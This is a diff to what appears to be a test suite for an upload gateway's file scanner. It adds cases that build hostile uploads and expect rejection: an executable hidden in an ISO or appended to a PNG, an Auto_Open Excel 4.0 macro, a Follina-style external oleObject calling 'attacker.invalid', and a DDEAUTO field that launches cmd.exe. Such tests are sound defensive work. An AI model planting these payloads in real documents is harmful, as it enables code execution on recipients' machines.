@@ -2,11 +2,23 @@
 // gateway keeps answering, and nothing is left behind (no row, no stored object, no upload).
 import { makeForm, makeSite, testDriverName } from '@intake/shared/test';
 import { startGateway } from './index.js';
-import { EXECUTABLE_HEADS, docm, lyingSizeBomb, nestedZipBomb, rawZip, sharedLocalHeaderZip } from './test/archives.js';
+import {
+  EXECUTABLE_HEADS,
+  complexField,
+  docm,
+  docxWithBody,
+  docxWithExternalLink,
+  lyingSizeBomb,
+  nestedZipBomb,
+  rawZip,
+  sharedLocalHeaderZip,
+  xlsWorkbook,
+} from './test/archives.js';
 import { clamdStatus, describeClamd, eicarBytes } from './test/clamd.js';
 import { footprint, send, startTestGateway, withConfig } from './test/harness.js';
+import { iso9660 } from './test/disk-images.js';
 import { buildRar } from './test/rar-writer.js';
-import { docx, pdf, zipOf } from './test/samples.js';
+import { docx, pdf, png, zipOf } from './test/samples.js';
 import { sevenZipOf } from './test/sevenzip-samples.js';
 
 let harness: Awaited<ReturnType<typeof startTestGateway>>;
@@ -44,6 +56,18 @@ describe(`file security through the gateway on ${testDriverName()}`, () => {
       () => rawZip([{ name: '../../etc/passwd', content: 'x' }]),
       'archive_path_traversal',
     ],
+    [
+      'an ISO image holding a program inside a zip',
+      'files.zip',
+      () => zipOf({ 'disk.iso': iso9660([{ name: 'notes.txt', data: EXECUTABLE_HEADS.pe }]) }),
+      'archive_executable',
+    ],
+    [
+      'a PNG with a zip holding a program appended after IEND',
+      'photo.png',
+      async () => Buffer.concat([png(), await zipOf({ 'run.exe': EXECUTABLE_HEADS.pe })]),
+      'file_type_mismatch',
+    ],
     ['a lying-size bomb', 'files.zip', () => lyingSizeBomb(64 * 1024 * 1024), 'archive_bomb'],
     ['a nested zip bomb', 'files.zip', () => nestedZipBomb(5, 4), 'archive_bomb'],
     ['an overlap bomb', 'files.zip', () => sharedLocalHeaderZip(), 'archive_bomb'],
@@ -54,6 +78,24 @@ describe(`file security through the gateway on ${testDriverName()}`, () => {
       'archive_unreadable',
     ],
     ['a macro-enabled document named .docx', 'letter.docx', () => docm(), 'archive_macro'],
+    [
+      'an Excel 4.0 macro sheet in a .xls inside a zip',
+      'files.zip',
+      () => zipOf({ 'book.xls': xlsWorkbook([{ name: 'Auto_Open', type: 1 }]) }),
+      'archive_macro',
+    ],
+    [
+      'a Follina document (external oleObject, mhtml: target)',
+      'letter.docx',
+      () => docxWithExternalLink('oleObject', 'mhtml:http://attacker.invalid/x.html!x-usc:http://attacker.invalid/x'),
+      'document_active_content',
+    ],
+    [
+      'a DDEAUTO field split over runs',
+      'letter.docx',
+      () => docxWithBody(complexField(['DDE', 'AUTO c:\\windows\\system32\\cmd.exe "/k calc"'])),
+      'document_active_content',
+    ],
     [
       'an executable in a 7z',
       'files.7z',
